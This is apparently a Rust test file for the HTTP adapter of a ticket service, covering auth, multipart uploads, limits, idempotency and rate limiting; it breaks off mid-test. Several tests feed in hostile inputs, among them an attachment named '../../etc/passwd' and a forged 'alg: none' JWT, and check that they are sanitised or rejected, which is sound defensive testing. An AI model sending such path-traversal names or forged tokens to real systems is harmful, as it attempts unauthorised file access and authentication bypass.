//! The HTTP adapter over a mocked ticket service: auth, binding, limits and problem answers.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use actix_web::http::StatusCode;
use actix_web::http::header::{self, HeaderValue};
use actix_web::test::{self, TestRequest};
use secrecy::SecretString;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use ticketd_domain::ports::{MockTicketQueries, MockTicketService};
use ticketd_domain::{
    CreateOutcome, CreateRequest, CreateTicketError, CreatedTicket, IncidentId, NewTicket,
    OperationId, StoredAnswer,
};
use ticketd_http::{HttpState, Limits, Verifier, app, mint_hs256_token};

const SECRET: &str = "handler-test-secret";

fn token_for(email: &str) -> String {
    mint_hs256_token(&SecretString::from(SECRET), email, Duration::from_secs(600)).expect("token")
}

fn bearer() -> (header::HeaderName, String) {
    (
        header::AUTHORIZATION,
        format!("Bearer {}", token_for("alice@example.com")),
    )
}

fn state(service: MockTicketService, limits: Limits) -> HttpState {
    HttpState {
        service: Arc::new(service),
        queries: Arc::new(MockTicketQueries::new()),
        ops: Arc::new(ticketd_http::AlwaysReady),
        verifier: Arc::new(
            Verifier::hs256(&SecretString::from(SECRET), Duration::from_secs(60))
                .expect("a verifier"),
        ),
        limits,
        rate_limiter: None,
        cors_origins: Vec::new(),
    }
}

fn created(id: i64) -> CreateOutcome {
    CreateOutcome::Created(CreatedTicket {
        local_id: uuid::Uuid::now_v7(),
        operation_id: OperationId::new(),
        inv_gate_id: IncidentId::parse(id).expect("id"),
        body: json!({"status": "OK", "info": "Solicitud creada", "request_id": id}).to_string(),
    })
}

/// What a recording service saw: the caller, the ticket and the bytes of each of its files.
type Seen = Arc<Mutex<Vec<(String, NewTicket, Vec<Vec<u8>>, CreateRequest)>>>;

/// A service that records the ticket it was asked to create (and the bytes of its files, read
/// while the request was still running) and answers with InvGate id 1864.
fn recording_service() -> (MockTicketService, Seen) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    let mut service = MockTicketService::new();
    service
        .expect_create_ticket()
        .returning(move |caller, ticket, request| {
            let contents = ticket
                .attachments
                .iter()
                .map(|a| std::fs::read(&a.path).expect("spooled file exists during the call"))
                .collect();
            log.lock()
                .expect("lock")
                .push((caller.as_str().to_owned(), ticket, contents, request));
            Ok(created(1864))
        });
    (service, seen)
}

fn untouched_service() -> MockTicketService {
    let mut service = MockTicketService::new();
    service.expect_create_ticket().never();
    service
}

fn valid_json() -> Value {
    json!({"title": "Printer on fire", "description": "3rd floor", "category_id": 3, "priority_id": 4, "type_id": 1})
}

/// Builds multipart/form-data bodies by hand, so tests control every byte.
struct Form {
    boundary: &'static str,
    body: Vec<u8>,
}

impl Form {
    fn new() -> Self {
        Self {
            boundary: "XyZ-test-boundary-42",
            body: Vec::new(),
        }
    }

    fn text(mut self, name: &str, value: &str) -> Self {
        self.body.extend_from_slice(
            format!(
                "--{}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n",
                self.boundary
            )
            .as_bytes(),
        );
        self
    }

    fn file(mut self, name: &str, file_name: &str, content_type: &str, bytes: &[u8]) -> Self {
        self.body.extend_from_slice(
            format!(
                "--{}\r\nContent-Disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\nContent-Type: {content_type}\r\n\r\n",
                self.boundary
            )
            .as_bytes(),
        );
        self.body.extend_from_slice(bytes);
        self.body.extend_from_slice(b"\r\n");
        self
    }

    fn request(self) -> TestRequest {
        self.request_to("/api/v1/tickets")
    }

    fn request_to(self, uri: &str) -> TestRequest {
        let mut body = self.body;
        body.extend_from_slice(format!("--{}--\r\n", self.boundary).as_bytes());
        TestRequest::post()
            .uri(uri)
            .insert_header(bearer())
            .insert_header((
                header::CONTENT_TYPE,
                format!("multipart/form-data; boundary={}", self.boundary),
            ))
            .set_payload(body)
    }
}

fn json_request(body: &Value) -> TestRequest {
    TestRequest::post()
        .uri("/api/v1/tickets")
        .insert_header(bearer())
        .insert_header((header::CONTENT_TYPE, "application/json"))
        .set_payload(body.to_string())
}

async fn call(
    state: HttpState,
    request: TestRequest,
) -> (StatusCode, actix_web::http::header::HeaderMap, Value) {
    let app = test::init_service(app(state)).await;
    let response = test::call_service(&app, request.to_request()).await;
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = test::read_body(response).await;
    let body = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
    (status, headers, body)
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

#[actix_web::test]
async fn health_answers_ok_without_a_token() {
    let (status, _, body) = call(
        state(untouched_service(), Limits::default()),
        TestRequest::get().uri("/healthz"),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, json!({"status": "ok"}));
}

#[actix_web::test]
async fn a_json_ticket_is_created_for_the_tokens_email_and_answered_with_invgates_payload() {
    let (service, seen) = recording_service();
    let (status, headers, body) = call(
        state(service, Limits::default()),
        json_request(&valid_json()),
    )
    .await;

    assert_eq!(status, StatusCode::CREATED);
    assert_eq!(
        headers
            .get(header::LOCATION)
            .map(HeaderValue::to_str)
            .and_then(Result::ok),
        Some("/api/v1/tickets/1864")
    );
    assert_eq!(
        body,
        json!({"status": "OK", "info": "Solicitud creada", "request_id": 1864})
    );
    let seen = seen.lock().expect("lock");
    let (caller, ticket, _, _) = &seen[0];
    assert_eq!(caller, "alice@example.com");
    assert_eq!(ticket.title.as_str(), "Printer on fire");
    assert_eq!(ticket.priority_id.get(), 4);
}

#[actix_web::test]
async fn a_request_without_a_token_is_401_with_a_bearer_challenge() {
    let request = TestRequest::post()
        .uri("/api/v1/tickets")
        .insert_header((header::CONTENT_TYPE, "application/json"))
        .set_payload(valid_json().to_string());
    let (status, headers, body) =
        call(state(untouched_service(), Limits::default()), request).await;

    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        headers.get(header::WWW_AUTHENTICATE).map(|v| v.as_bytes()),
        Some(&b"Bearer"[..])
    );
    assert_eq!(
        headers.get(header::CONTENT_TYPE).map(|v| v.as_bytes()),
        Some(&b"application/problem+json"[..])
    );
    assert_eq!(body["code"], "UNAUTHORIZED");
    assert_eq!(body["status"], 401);
    assert_eq!(body["instance"], "/api/v1/tickets");
    assert_eq!(body["error"], body["detail"]);
}

#[actix_web::test]
async fn a_bad_token_is_401_with_invalid_token_and_no_hint_of_why() {
    let request = TestRequest::post()
        .uri("/api/v1/tickets")
        .insert_header((header::AUTHORIZATION, "Bearer eyJhbGciOiJIUzI1NiJ9.e30.bad"))
        .insert_header((header::CONTENT_TYPE, "application/json"))
        .set_payload(valid_json().to_string());
    let (status, headers, body) =
        call(state(untouched_service(), Limits::default()), request).await;

    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        headers.get(header::WWW_AUTHENTICATE).map(|v| v.as_bytes()),
        Some(&br#"Bearer error="invalid_token""#[..])
    );
    assert_eq!(body["detail"], "the bearer token is invalid or expired");
}

#[actix_web::test]
async fn every_invalid_field_is_listed_and_the_service_is_not_called() {
    let body = json!({"title": "", "category_id": 0, "priority_id": 7, "type_id": "x", "related_to": [1, -2]});
    let (status, headers, body) = call(
        state(untouched_service(), Limits::default()),
        json_request(&body),
    )
    .await;

    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(
        headers.get(header::CONTENT_TYPE).map(|v| v.as_bytes()),
        Some(&b"application/problem+json"[..])
    );
    assert_eq!(body["code"], "INVALID_INPUT");
    let fields: Vec<&str> = body["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| e["field"].as_str().expect("field"))
        .collect();
    assert_eq!(
        fields,
        [
            "title",
            "description",
            "category_id",
            "priority_id",
            "type_id",
            "related_to"
        ]
    );
    assert!(body["errors"][0]["message"].is_string());
}

#[actix_web::test]
async fn malformed_json_is_400_naming_the_body() {
    let request = TestRequest::post()
        .uri("/api/v1/tickets")
        .insert_header(bearer())
        .insert_header((header::CONTENT_TYPE, "application/json"))
        .set_payload("{\"title\": ");
    let (status, _, body) = call(state(untouched_service(), Limits::default()), request).await;

    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["errors"][0]["field"], "body");
}

#[actix_web::test]
async fn another_content_type_is_415() {
    let request = TestRequest::post()
        .uri("/api/v1/tickets")
        .insert_header(bearer())
        .insert_header((header::CONTENT_TYPE, "text/plain"))
        .set_payload("title=x");
    let (status, _, body) = call(state(untouched_service(), Limits::default()), request).await;

    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(body["code"], "UNSUPPORTED_MEDIA_TYPE");
}

#[actix_web::test]
async fn a_json_body_over_the_limit_is_413() {
    let limits = Limits {
        max_json_bytes: 64,
        ..Limits::default()
    };
    let mut body = valid_json();
    body["description"] = json!("x".repeat(100));
    let (status, _, problem) = call(state(untouched_service(), limits), json_request(&body)).await;

    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(problem["code"], "PAYLOAD_TOO_LARGE");
}

#[actix_web::test]
async fn a_multipart_ticket_with_a_request_part_streams_its_files_to_the_service() {
    let (service, seen) = recording_service();
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend((0..=255u8).cycle().take(100_000 - png.len()));
    // Files first, ticket last: part order does not matter.
    let form = Form::new()
        .file("attachments[]", "screen.png", "image/png", &png)
        // A quoted-string escapes backslashes; the Windows path arrives as C:\Users\me\log.txt.
        .file(
            "attachments[]",
            r"C:\\Users\\me\\log.txt",
            "text/plain",
            b"line 1\r\n--line 2",
        )
        .file("attachments[]", "../../etc/passwd", "text/plain", b"x")
        .text("request", &valid_json().to_string());

    let (status, _, _) = call(state(service, Limits::default()), form.request()).await;

    assert_eq!(status, StatusCode::CREATED);
    let seen = seen.lock().expect("lock");
    let (_, ticket, contents, _) = &seen[0];
    assert_eq!(ticket.title.as_str(), "Printer on fire");
    let names: Vec<&str> = ticket.attachments.iter().map(|a| a.name.as_str()).collect();
    assert_eq!(names, ["screen.png", "log.txt", "passwd"]);
    assert_eq!(ticket.attachments[0].content_type, "image/png");
    assert_eq!(ticket.attachments[0].size, 100_000);
    assert_eq!(ticket.attachments[0].sha256.as_str(), sha256_hex(&png));
    assert_eq!(contents[0], png);
    assert_eq!(contents[1], b"line 1\r\n--line 2");
    for attachment in &ticket.attachments {
        assert!(
            !attachment.path.exists(),
            "spooled files are removed after the request"
        );
    }
}

#[actix_web::test]
async fn a_multipart_ticket_may_send_one_form_field_per_name() {
    let (service, seen) = recording_service();
    let form = Form::new()
        .text("title", "Keyboard")
        .file("attachments", "", "application/octet-stream", b"abc")
        .text("description", "Sticky keys")
        .text("category_id", "3")
        .text("priority_id", "2")
        .text("type_id", "1")
        .text("related_to[]", "10")
        .text("related_to[]", "11")
        .text("creator_id", "666");

    let (status, _, body) = call(state(service, Limits::default()), form.request()).await;

    assert_eq!(status, StatusCode::CREATED, "{body}");
    let seen = seen.lock().expect("lock");
    let (_, ticket, _, _) = &seen[0];
    assert_eq!(ticket.category_id.get(), 3);
    assert_eq!(
        ticket
            .related_to
            .iter()
            .map(|r| r.get())
            .collect::<Vec<_>>(),
        [10, 11]
    );
    assert_eq!(ticket.attachments[0].name.as_str(), "attachment");
}

#[actix_web::test]
async fn invalid_form_fields_are_listed_like_json_ones() {
    let form = Form::new().text("title", "x").text("priority_id", "high");
    let (status, _, body) = call(
        state(untouched_service(), Limits::default()),
        form.request(),
    )
    .await;

    assert_eq!(status, StatusCode::BAD_REQUEST);
    let fields: Vec<&str> = body["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| e["field"].as_str().expect("field"))
        .collect();
    assert_eq!(
        fields,
        ["description", "category_id", "priority_id", "type_id"]
    );
}

#[actix_web::test]
async fn a_malformed_request_part_is_400_naming_it() {
    let form = Form::new().text("request", "{not json");
    let (status, _, body) = call(
        state(untouched_service(), Limits::default()),
        form.request(),
    )
    .await;

    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["errors"][0]["field"], "request");
}

#[actix_web::test]
async fn a_file_over_the_size_limit_is_413_naming_it() {
    let limits = Limits {
        max_attachment_bytes: 1000,
        ..Limits::default()
    };
    let form = Form::new().text("request", &valid_json().to_string()).file(
        "attachments[]",
        "big.bin",
        "application/octet-stream",
        &[7u8; 1001],
    );
    let (status, _, body) = call(state(untouched_service(), limits), form.request()).await;

    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(body["detail"].as_str().expect("detail").contains("big.bin"));
}

#[actix_web::test]
async fn more_files_than_allowed_is_413() {
    let limits = Limits {
        max_attachments: 2,
        ..Limits::default()
    };
    let form = Form::new()
        .text("request", &valid_json().to_string())
        .file("attachments[]", "a", "text/plain", b"a")
        .file("attachments[]", "b", "text/plain", b"b")
        .file("attachments[]", "c", "text/plain", b"c");
    let (status, _, body) = call(state(untouched_service(), limits), form.request()).await;

    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(
        body["detail"]
            .as_str()
            .expect("detail")
            .contains("at most 2")
    );
}

#[actix_web::test]
async fn broken_multipart_is_400() {
    let request = TestRequest::post()
        .uri("/api/v1/tickets")
        .insert_header(bearer())
        .insert_header((header::CONTENT_TYPE, "multipart/form-data; boundary=abc"))
        .set_payload("--abc\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nunterminated");
    let (status, _, body) = call(state(untouched_service(), Limits::default()), request).await;

    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
}

#[actix_web::test]
async fn each_service_failure_has_its_status_and_code() {
    type Failure = fn() -> CreateTicketError;
    let cases: Vec<(Failure, StatusCode, &str)> = vec![
        (
            || CreateTicketError::UserNotProvisioned {
                email: "alice@example.com".into(),
            },
            StatusCode::FORBIDDEN,
            "USER_NOT_PROVISIONED",
        ),
        (
            || CreateTicketError::UpstreamRejected {
                message: "Categoría inválida".into(),
            },
            StatusCode::UNPROCESSABLE_ENTITY,
            "UPSTREAM_REJECTED",
        ),
        (
            || {
                CreateTicketError::UpstreamAuth(ticketd_domain::GatewayError::Unauthorized {
                    status: 401,
                })
            },
            StatusCode::BAD_GATEWAY,
            "UPSTREAM_AUTH",
        ),
        (
            || CreateTicketError::UpstreamBusy {
                retry_after: Some(Duration::from_secs(9)),
            },
            StatusCode::SERVICE_UNAVAILABLE,
            "UPSTREAM_BUSY",
        ),
        (
            || CreateTicketError::UpstreamFailed(anyhow::anyhow!("secret internal cause")),
            StatusCode::BAD_GATEWAY,
            "EXTERNAL_SERVICE_ERROR",
        ),
        (
            || CreateTicketError::UpstreamTimeout,
            StatusCode::GATEWAY_TIMEOUT,
            "UPSTREAM_TIMEOUT",
        ),
        (
            || CreateTicketError::Unexpected(anyhow::anyhow!("secret internal cause")),
            StatusCode::INTERNAL_SERVER_ERROR,
            "INTERNAL_ERROR",
        ),
    ];
    for (failure, expected_status, expected_code) in cases {
        let mut service = MockTicketService::new();
        service
            .expect_create_ticket()
            .returning(move |_, _, _| Err(failure()));

        let (status, headers, body) = call(
            state(service, Limits::default()),
            json_request(&valid_json()),
        )
        .await;

        assert_eq!(status, expected_status, "{expected_code}");
        assert_eq!(body["code"], expected_code);
        assert!(
            !body.to_string().contains("secret internal cause"),
            "5xx bodies stay opaque"
        );
        if expected_code == "UPSTREAM_REJECTED" {
            assert_eq!(body["detail"], "Categoría inválida");
        }
        if expected_code == "UPSTREAM_BUSY" {
            assert_eq!(
                headers.get(header::RETRY_AFTER).map(|v| v.as_bytes()),
                Some(&b"9"[..])
            );
        }
    }
}

#[actix_web::test]
async fn rate_limiting_without_a_hint_tells_clients_to_wait_30_seconds() {
    let mut service = MockTicketService::new();
    service
        .expect_create_ticket()
        .returning(|_, _, _| Err(CreateTicketError::UpstreamBusy { retry_after: None }));
    let (_, headers, _) = call(
        state(service, Limits::default()),
        json_request(&valid_json()),
    )
    .await;
    assert_eq!(
        headers.get(header::RETRY_AFTER).map(|v| v.as_bytes()),
        Some(&b"30"[..])
    );
}

/// Panics on its first call, succeeds afterwards.
struct PanicsOnce(std::sync::atomic::AtomicBool);

#[async_trait::async_trait]
impl ticketd_domain::TicketService for PanicsOnce {
    async fn create_ticket(
        &self,
        _: &ticketd_domain::EmailAddress,
        _: NewTicket,
        _: CreateRequest,
    ) -> Result<CreateOutcome, CreateTicketError> {
        let first = !self.0.swap(true, std::sync::atomic::Ordering::SeqCst);
        assert!(!first, "first call panics on purpose");
        Ok(created(5))
    }

    async fn operation(
        &self,
        _: &ticketd_domain::EmailAddress,
        _: OperationId,
    ) -> Result<Option<ticketd_domain::Operation>, CreateTicketError> {
        Ok(None)
    }
}

#[actix_web::test]
async fn a_panicking_handler_answers_500_and_the_server_keeps_serving() {
    let state = HttpState {
        service: Arc::new(PanicsOnce(std::sync::atomic::AtomicBool::new(false))),
        ..state(untouched_service(), Limits::default())
    };
    let app = test::init_service(app(state)).await;

    let first = test::call_service(&app, json_request(&valid_json()).to_request()).await;
    assert_eq!(first.status(), StatusCode::INTERNAL_SERVER_ERROR);
    assert!(first.headers().contains_key("x-request-id"));
    let body: Value = test::read_body_json(first).await;
    assert_eq!(body["code"], "INTERNAL_ERROR");
    assert!(body["request_id"].is_string());

    let second = test::call_service(&app, json_request(&valid_json()).to_request()).await;
    assert_eq!(second.status(), StatusCode::CREATED);
}

#[actix_web::test]
async fn a_sane_client_request_id_is_echoed_and_a_missing_one_generated() {
    let request = json_request(&json!({})).insert_header(("X-Request-Id", "client-abc-1"));
    let (_, headers, body) = call(state(untouched_service(), Limits::default()), request).await;
    assert_eq!(
        headers.get("x-request-id").map(|v| v.as_bytes()),
        Some(&b"client-abc-1"[..])
    );
    assert_eq!(body["request_id"], "client-abc-1");

    let request = json_request(&json!({})).insert_header(("X-Request-Id", "bad id with spaces"));
    let (_, headers, _) = call(state(untouched_service(), Limits::default()), request).await;
    let generated = headers
        .get("x-request-id")
        .and_then(|v| v.to_str().ok())
        .expect("generated id");
    assert_ne!(generated, "bad id with spaces");
    assert!(uuid::Uuid::parse_str(generated).is_ok());
}

#[actix_web::test]
async fn unknown_routes_are_404_and_wrong_methods_405_as_problems() {
    let (status, _, body) = call(
        state(untouched_service(), Limits::default()),
        TestRequest::get().uri("/nope"),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(body["code"], "NOT_FOUND");

    let request = TestRequest::delete()
        .uri("/api/v1/tickets")
        .insert_header(bearer());
    let (status, headers, _) = call(state(untouched_service(), Limits::default()), request).await;
    assert_eq!(status, StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(
        headers.get(header::ALLOW).map(|v| v.as_bytes()),
        Some(&b"GET, POST"[..])
    );
}

fn answering(outcome: Result<CreateOutcome, CreateTicketError>) -> MockTicketService {
    let mut service = MockTicketService::new();
    let outcome = Mutex::new(Some(outcome));
    service
        .expect_create_ticket()
        .times(1)
        .returning(move |_, _, _| outcome.lock().expect("lock").take().expect("called once"));
    service
}

#[actix_web::test]
async fn the_idempotency_key_and_request_id_reach_the_service() {
    let (service, seen) = recording_service();
    let request = json_request(&valid_json())
        .insert_header(("Idempotency-Key", "order-4711/attempt"))
        .insert_header(("X-Request-Id", "req-77"));

    let (status, _, _) = call(state(service, Limits::default()), request).await;

    assert_eq!(status, StatusCode::CREATED);
    let seen = seen.lock().expect("lock");
    let request = &seen[0].3;
    assert_eq!(
        request.idempotency_key.as_ref().map(|k| k.as_str()),
        Some("order-4711/attempt")
    );
    assert_eq!(request.request_id, "req-77");
}

#[actix_web::test]
async fn a_malformed_idempotency_key_is_400_and_nothing_is_created() {
    let long = "k".repeat(256);
    for key in [long.as_str(), "tab\there"] {
        let request = json_request(&valid_json()).insert_header(("Idempotency-Key", key));
        let (status, _, body) = call(state(untouched_service(), Limits::default()), request).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{key:?}");
        assert_eq!(body["errors"][0]["field"], "Idempotency-Key");
    }
}

#[actix_web::test]
async fn a_replayed_creation_is_the_first_answer_byte_for_byte_marked_as_replayed() {
    let body = r#"{"status":"OK","info":"Solicitud creada","request_id":1864}"#;
    let replay = CreateOutcome::Replayed {
        answer: StoredAnswer::Created {
            inv_gate_id: 1864,
            body: body.into(),
        },
        request_id: "first".into(),
    };
    let app = test::init_service(app(state(answering(Ok(replay)), Limits::default()))).await;

    let response = test::call_service(
        &app,
        json_request(&valid_json())
            .insert_header(("Idempotency-Key", "k"))
            .to_request(),
    )
    .await;

    assert_eq!(response.status(), StatusCode::CREATED);
    assert_eq!(
        response
            .headers()
            .get("idempotent-replayed")
            .map(|v| v.as_bytes()),
        Some(&b"true"[..])
    );
    assert_eq!(
        response
            .headers()
            .get(header::LOCATION)
            .map(|v| v.as_bytes()),
        Some(&b"/api/v1/tickets/1864"[..])
    );
    assert_eq!(test::read_body(response).await, body.as_bytes());
}

#[actix_web::test]
async fn a_replayed_rejection_names_the_first_request() {
    let replay = CreateOutcome::Replayed {
        answer: StoredAnswer::Rejected {
            message: "Categoría inválida".into(),
        },
        request_id: "first-request".into(),
    };
    let request = json_request(&valid_json())
        .insert_header(("Idempotency-Key", "k"))
        .insert_header(("X-Request-Id", "second"));
    let (status, headers, body) =
        call(state(answering(Ok(replay)), Limits::default()), request).await;

    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        headers.get("idempotent-replayed").map(|v| v.as_bytes()),
        Some(&b"true"[..])
    );
    assert_eq!(
        headers.get("x-request-id").map(|v| v.as_bytes()),
        Some(&b"second"[..])
    );
    assert_eq!(body["request_id"], "first-request");
    assert_eq!(body["detail"], "Categoría inválida");
}

#[actix_web::test]
async fn idempotency_conflicts_and_an_unavailable_store_have_their_codes_and_retry_hints() {
    type Failure = fn() -> CreateTicketError;
    let cases: Vec<(Failure, StatusCode, &str, Option<&str>)> = vec![
        (
            || CreateTicketError::IdempotencyKeyMismatch,
            StatusCode::UNPROCESSABLE_ENTITY,
            "IDEMPOTENCY_KEY_MISMATCH",
            None,
        ),
        (
            || CreateTicketError::IdempotencyKeyInUse {
                retry_after: Duration::from_secs(5),
            },
            StatusCode::CONFLICT,
            "IDEMPOTENCY_KEY_IN_USE",
            Some("5"),
        ),
        (
            || {
                CreateTicketError::StoreUnavailable(ticketd_domain::JournalError(anyhow::anyhow!(
                    "db down"
                )))
            },
            StatusCode::SERVICE_UNAVAILABLE,
            "STORE_UNAVAILABLE",
            Some("5"),
        ),
        (
            || CreateTicketError::UpstreamUnavailable {
                retry_after: Duration::from_secs(20),
            },
            StatusCode::SERVICE_UNAVAILABLE,
            "UPSTREAM_UNAVAILABLE",
            Some("20"),
        ),
    ];
    for (failure, expected_status, code, retry_after) in cases {
        let (status, headers, body) = call(
            state(answering(Err(failure())), Limits::default()),
            json_request(&valid_json()),
        )
        .await;
        assert_eq!(status, expected_status, "{code}");
        assert_eq!(body["code"], code);
        assert_eq!(
            headers
                .get(header::RETRY_AFTER)
                .and_then(|v| v.to_str().ok()),
            retry_after,
            "{code}"
        );
        assert!(!body.to_string().contains("db down"));
    }
}

fn queued_operation(id: OperationId) -> ticketd_domain::Operation {
    let draft = ticketd_domain::TicketDraft {
        title: Some("t".into()),
        description: Some("d".into()),
        category_id: Some(1),
        priority_id: Some(1),
        type_id: Some(1),
        ..ticketd_domain::TicketDraft::default()
    };
    let ticket = NewTicket::parse(
        draft,
        vec![],
        chrono::Utc::now(),
        chrono::Duration::seconds(60),
    )
    .expect("valid");
    ticketd_domain::Operation {
        id,
        state: ticketd_domain::OperationState::Queued,
        fingerprint: ticketd_domain::Fingerprint::of(&ticket),
        retryable: false,
        answer: None,
        request_id: "r".into(),
        requester: None,
        caller: "alice@example.com".into(),
        ticket: ticketd_domain::TicketSnapshot::from(&ticket),
        inv_gate_id: None,
        reason: Some("InvGate unavailable".into()),
        was_queued: true,
        created_at: chrono::Utc::now(),
        attempt_started_at: chrono::Utc::now(),
    }
}

#[actix_web::test]
async fn prefer_respond_async_reaches_the_service_and_a_queued_ticket_is_202_with_its_status_resource()
 {
    let id = OperationId::new();
    let mut service = MockTicketService::new();
    service
        .expect_create_ticket()
        .withf(|_, _, request| request.respond_async)
        .times(1)
        .returning(move |_, _, _| Ok(CreateOutcome::Queued { operation_id: id }));
    service
        .expect_operation()
        .withf(move |caller, wanted| caller.as_str() == "alice@example.com" && *wanted == id)
        .returning(move |_, _| Ok(Some(queued_operation(id))));
    let request = json_request(&valid_json()).insert_header(("Prefer", "wait=10, respond-async"));

    let (status, headers, body) = call(state(service, Limits::default()), request).await;

    assert_eq!(status, StatusCode::ACCEPTED);
    assert_eq!(
        headers.get(header::LOCATION).and_then(|v| v.to_str().ok()),
        Some(format!("/api/v1/tickets/operations/{id}").as_str())
    );
    assert_eq!(
        headers.get("preference-applied").map(|v| v.as_bytes()),
        Some(&b"respond-async"[..])
    );
    assert_eq!(body["status"], "queued");
    assert_eq!(body["reason"], "InvGate unavailable");
}

#[actix_web::test]
async fn an_operation_is_shown_to_its_caller_and_is_404_for_anyone_else_or_a_bad_id() {
    let id = OperationId::new();
    let mut service = MockTicketService::new();
    service.expect_operation().returning(move |caller, _| {
        Ok((caller.as_str() == "alice@example.com").then(|| queued_operation(id)))
    });
    let app = test::init_service(app(state(service, Limits::default()))).await;
    let get = |path: String, email: &str| {
        TestRequest::get()
            .uri(&path)
            .insert_header((
                header::AUTHORIZATION,
                format!("Bearer {}", token_for(email)),
            ))
            .to_request()
    };

    let own = test::call_service(
        &app,
        get(
            format!("/api/v1/tickets/operations/{id}"),
            "alice@example.com",
        ),
    )
    .await;
    assert_eq!(own.status(), StatusCode::OK);
    assert!(
        own.headers().contains_key(header::RETRY_AFTER),
        "still queued: poll again"
    );
    let foreign = test::call_service(
        &app,
        get(
            format!("/api/v1/tickets/operations/{id}"),
            "bob@example.com",
        ),
    )
    .await;
    assert_eq!(foreign.status(), StatusCode::NOT_FOUND);
    let bad = test::call_service(
        &app,
        get(
            "/api/v1/tickets/operations/not-a-uuid".into(),
            "alice@example.com",
        ),
    )
    .await;
    assert_eq!(bad.status(), StatusCode::NOT_FOUND);
}

// ---- Hardening: headers, CORS, rate limits, hostile bodies and files ----

fn with_limits(limits: Limits) -> HttpState {
    state(untouched_service(), limits)
}

#[actix_web::test]
async fn every_answer_forbids_sniffing_and_storing_and_names_no_server_version() {
    for request in [
        TestRequest::get().uri("/healthz"),
        TestRequest::post().uri("/api/v1/tickets"),
        TestRequest::get().uri("/nowhere"),
    ] {
        let (_, headers, _) = call(with_limits(Limits::default()), request).await;
        assert_eq!(
            headers
                .get(header::X_CONTENT_TYPE_OPTIONS)
                .map(|v| v.as_bytes()),
            Some(&b"nosniff"[..])
        );
        assert_eq!(
            headers.get(header::CACHE_CONTROL).map(|v| v.as_bytes()),
            Some(&b"no-store"[..])
        );
        assert!(headers.get(header::SERVER).is_none());
    }
}

#[actix_web::test]
async fn every_kind_of_refused_token_gets_the_same_401() {
    let now = chrono::Utc::now().timestamp();
    let sign = |claims: Value| {
        jsonwebtoken::encode(
            &jsonwebtoken::Header::default(),
            &claims,
            &jsonwebtoken::EncodingKey::from_secret(SECRET.as_bytes()),
        )
        .expect("encodes")
    };
    let tokens = [
        sign(json!({"email": "a@example.com", "exp": now - 3600})),
        sign(json!({"email": "a@example.com", "exp": now + 3600, "nbf": now + 3600})),
        sign(json!({"sub": "no-email", "exp": now + 3600})),
        "x".repeat(9000),
        "eyJhbGciOiJub25lIn0.eyJlbWFpbCI6ImFAZXhhbXBsZS5jb20ifQ.".to_owned(),
    ];
    let mut bodies = Vec::new();
    for token in tokens {
        let request = json_request(&valid_json())
            .insert_header((header::AUTHORIZATION, format!("Bearer {token}")));
        let (status, headers, mut body) = call(with_limits(Limits::default()), request).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        assert_eq!(
            headers.get(header::WWW_AUTHENTICATE).map(|v| v.as_bytes()),
            Some(&br#"Bearer error="invalid_token""#[..])
        );
        body.as_object_mut().expect("object").remove("request_id");
        bodies.push(body);
    }
    assert!(bodies.windows(2).all(|w| w[0] == w[1]), "{bodies:?}");
}

#[actix_web::test]
async fn a_token_in_the_query_string_is_not_accepted() {
    let request = TestRequest::post()
        .uri(&format!(
            "/api/v1/tickets?access_token={}",
            token_for("alice@example.com")
        ))
        .insert_header((header::CONTENT_TYPE, "application/json"))
        .set_payload(valid_json().to_string());
    let (status, _, _) = call(with_limits(Limits::default()), request).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

#[actix_web::test]
async fn a_caller_over_the_rate_limit_gets_429_with_retry_after_and_ratelimit_headers() {
    let mut state = state(recording_service().0, Limits::default());
    state.rate_limiter = ticketd_http::RateLimiter::new(ticketd_http::RateLimit {
        per_minute: 1,
        burst: 2,
    })
    .map(Arc::new);
    let app = test::init_service(app(state)).await;
    let mut statuses = Vec::new();
    let mut last = None;
    for _ in 0..3 {
        let response = test::call_service(&app, json_request(&valid_json()).to_request()).await;
        statuses.push(response.status().as_u16());
        last = Some(response);
    }
    assert_eq!(statuses, [201, 201, 429]);
    let response = last.expect("answered");
    let get = |name: &str| {
        response
            .headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(ToOwned::to_owned)
    };
    assert_eq!(get("retry-after").as_deref(), Some("60"));
    assert_eq!(get("ratelimit-limit").as_deref(), Some("2"));
    assert_eq!(get("ratelimit-remaining").as_deref(), Some("0"));
    assert_eq!(get("ratelimit-policy").as_deref(), Some("2;w=120"));
    let body: Value = serde_json::from_slice(&test::read_body(response).await).expect("json");
    assert_eq!(body["code"], "RATE_LIMITED");

    // Another caller has a bucket of its own.
    let bob = json_request(&valid_json()).insert_header((
        header::AUTHORIZATION,
        format!("Bearer {}", token_for("bob@example.com")),
    ));
    assert_eq!(
